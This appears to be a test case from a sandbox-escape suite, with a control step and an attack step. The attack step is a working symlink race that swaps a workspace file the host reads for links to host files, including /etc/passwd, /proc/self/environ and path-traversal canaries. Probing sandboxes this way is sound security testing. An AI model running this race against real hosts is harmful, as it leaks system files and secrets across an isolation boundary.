"""Swaps the file that the host reads for links to host files, as fast as it can.

Escape: the host reads a canary through rt.files
Control: the host's file interface reads a plain file of the workspace
Expect: none
"""

# control
import os

os.makedirs("inbox", exist_ok=True)
open("inbox/report.txt", "w").write("all is well")
open("inbox/report.txt").read() == "all is well"

# attack
import time

targets = [places["open_file"], places["closed_file"], "/etc/passwd", "../../canaries/open.txt", "/proc/self/environ"]
end = time.monotonic() + 1.5
i = 0
while (now := time.monotonic()) < end or (i <= 10 and now < end + 6):
    target = targets[i % len(targets)]
    i += 1
    try:
        os.symlink(target, "inbox/next")
        os.rename("inbox/next", "inbox/report.txt")
        os.rename("inbox", "outbox")
        os.symlink(os.path.dirname(places["open_file"]), "inbox")
        os.symlink(os.path.basename(places["open_file"]), "outbox/report.txt.x")
        os.unlink("outbox/report.txt.x")
        os.unlink("inbox")
        os.rename("outbox", "inbox")
    except OSError:
        for path in ("inbox/next",):
            try:
                os.unlink(path)
            except OSError:
                pass
        if not os.path.lexists("inbox"):
            os.makedirs("inbox", exist_ok=True)
assert i > 10, i
